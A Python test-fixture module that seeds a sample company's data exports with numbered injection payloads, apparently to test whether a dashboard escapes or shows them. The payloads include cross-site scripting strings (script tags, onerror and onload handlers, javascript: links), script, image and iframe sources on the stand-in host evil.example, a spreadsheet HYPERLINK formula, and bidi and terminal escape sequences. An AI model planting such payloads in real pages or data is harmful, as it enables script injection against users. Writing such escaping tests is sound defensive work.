"""The sample company with something in each text of its exports that some medium would run, link or hide."""

import csv
from pathlib import Path

import duckdb

from sightline.settings import ROOT

HOST = "evil.example"
"""Asked by nobody, linked by nobody."""

_MARKUP = (
    "<b>{}</b>",
    "<i>{}</i>",
    "<u onclick=alert(1)>{}</u>",
    f'<a href="http://{HOST}/">{{}}</a>',
    f"<img src=http://{HOST}/i.png onerror=alert(1)>{{}}",
    f"<script src=//{HOST}/s.js>alert(1)</script>{{}}",
    "<script>alert('{}')</script>",
    "<style>*{{display:none}}</style>{}",
    "<svg/onload=alert(1)>{}</svg>",
    f"<iframe src=http://{HOST}>{{}}</iframe>",
    "<br>{}<br/>",
    '<span style="color:red">{}</span>',
    "<sup>{}</sup><extra></extra>",
    "</text><details open ontoggle=alert(1)>{}",
    '"><b>{}</b>',
    "' onmouseover='alert(1)' {}",
    "&lt;b&gt;{}&lt;/b&gt;",
    "&amp;{}&nbsp;&#60;i&#62;",
    "<!-- {} -->",
    "%{{text}} {} %{{customdata[0]}}",
)
_MARKDOWN = (
    "**{}**",
    "*{}*",
    "_{}_",
    "__{}__",
    "`{}`",
    "~~{}~~",
    f"[{{}}](http://{HOST}/)",
    f"![{{}}](http://{HOST}/i.png)",
    f"<http://{HOST}/{{}}>",
    f"http://{HOST}/{{}}",
    f"HTTPS://{HOST}/{{}}?a=b&c=d",
    f"www.{HOST}/{{}}",
    f"{{}}@{HOST}",
    f"mailto:{{}}@{HOST}",
    "[{}](javascript:alert(1))",
    f"[{{}}]: http://{HOST}/",
    "[^{}] text [^1]",
    "| {} | b | --- | --- |",
    ":red[{}]",
    ":blue-background[{}]",
    ":red-badge[{}]",
    ":small[{}]",
    ":smile: {} :+1:",
    ":material/home: {} :streamlit:",
    "${}$",
    "$$\\frac{{1}}{{2}} {}$$",
    "\\({}\\) \\[x\\]",
    "a -> {} <- b -- c >= d <= e ~= f <-> g",
    "\\*{}\\*",
    "- [ ] {}",
)
_STARTS = ("# {}", "> {}", "1. {}", "- {}", "    {} indented", '=HYPERLINK("http://evil.example","{}")', "+{}", "@{}")
_LETTERS = (
    "\u202e{}\u202c turned",
    "\u2066{}\u200f\u2069 parted",
    "a\u200b{}\u2060\ufeffb\u00ad",
    "\x1b[31m{}\x1b[0m",
    "\x1b]8;;http://evil.example\x07{}\x1b]8;;\x07",
    "[red]{}[/red]",
)
PROBE = "*{}*<i>"
"""Stands in each text: shows at every place by itself that something was let through."""

PAYLOADS = tuple(
    text.format(f"ZQ{number:02}") for number, text in enumerate((*_MARKUP, *_MARKDOWN, *_STARTS, *_LETTERS, PROBE))
)
"""Each holds its number, so that a page says by itself which of them it shows, and how."""

_BEFORE = {text for text in PAYLOADS if text.startswith(tuple("#>1- =+@"))}
"""What works only where a text begins."""

_KEYS = {"table_name", "field", "old_value", "new_value", "fiscal_label", "fiscal_year", "link"}
"""Texts that are read as something else: what is not understood is not shown."""


def write(folder: Path) -> None:
    """The sample company's exports, every text in words with a payload; the same text gets the same one everywhere."""
    with (ROOT / "sightline/contract/columns.csv").open(encoding="utf-8") as contract:
        texts = {(row["table"], row["column"]) for row in csv.DictReader(contract) if _is_words(row)}
    with duckdb.connect() as connection:
        connection.execute("create table payloads as select ? as texts, ? as before", [list(PAYLOADS), list(_BEFORE)])
        for file in sorted((ROOT / "data/sample").iterdir()):
            reads = f"read_csv('{file}', all_varchar=true, header=true)" if file.suffix == ".csv" else f"'{file}'"
            names = [row[0] for row in connection.execute(f"describe from {reads}").fetchall()]
            shown = [_hostile(name) if (file.stem, name) in texts else f'"{name}"' for name in names]
            kind = "csv, header" if file.suffix == ".csv" else "parquet"
            connection.execute(
                f"copy (select {', '.join(shown)} from {reads}, payloads) to '{folder / file.name}' (format {kind})"
            )


def _is_words(row: dict[str, str]) -> bool:
    return (
        row["kind"] == "text"
        and not row["refers_to"]
        and not row["column"].endswith(("_id", "_key"))
        and row["column"] not in _KEYS
    )


def _hostile(name: str) -> str:
    payload, probe = f'texts[(hash("{name}") % {len(PAYLOADS) - 1} + 1)::int]', f"'{PAYLOADS[-1]}'"
    return (
        f"case when \"{name}\" <> '' then if({payload} in before,"
        f" concat_ws(' ', {payload}, \"{name}\", {probe}), concat_ws(' ', {probe}, \"{name}\", {payload}))"
        f' end as "{name}"'
    )
